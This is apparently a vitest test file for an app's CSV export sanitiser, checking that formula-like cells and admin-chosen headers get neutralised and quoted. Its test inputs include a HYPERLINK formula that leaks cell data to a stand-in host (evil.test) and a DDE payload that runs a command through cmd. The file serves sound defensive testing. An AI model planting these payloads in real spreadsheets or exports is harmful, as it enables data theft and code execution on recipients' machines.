import { describe, expect, it } from 'vitest';
import { csvSafe, csvText } from '@app/domain';

/** Every CSV cell that a spreadsheet would run as a formula is neutralised. */
describe('csvSafe', () => {
  it.each([
    ['=HYPERLINK("http://evil.test/?d="&A1,"Click")', `'=HYPERLINK("http://evil.test/?d="&A1,"Click")`],
    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r'=1+1`],
  ])('neutralises %j', (cell, expected) => {
    expect(csvSafe(cell)).toBe(expected);
  });

  it('leaves ordinary cells and numbers alone', () => {
    for (const cell of ['Thailand', 'Demo Team', 'a=b', 'x@y.test', ' =not first', ''])
      expect(csvSafe(cell)).toBe(cell);
    expect(csvSafe(-5)).toBe(-5);
    expect(csvSafe(12.5)).toBe(12.5);
    expect(csvSafe(null)).toBe('');
    expect(csvSafe(undefined)).toBe('');
  });

  it('neutralises and quotes the headers too: an Admin chooses the labels of custom fields', () => {
    const label = '=HYPERLINK("http://evil.test/?d="&A2,"Click")';
    const text = csvText([
      { 'Order ID': 1, [label]: 'Tourist', 'Say "hi", then\r=go': '+1' },
      { 'Order ID': 2, [label]: null, 'Say "hi", then\r=go': 'x' },
    ]);
    expect(text.split('\r\n')).toEqual([
      `"Order ID","'=HYPERLINK(""http://evil.test/?d=""&A2,""Click"")","Say ""hi"", then\r'=go"`,
      `"1","Tourist","'+1"`,
      `"2","","x"`,
    ]);
  });
});
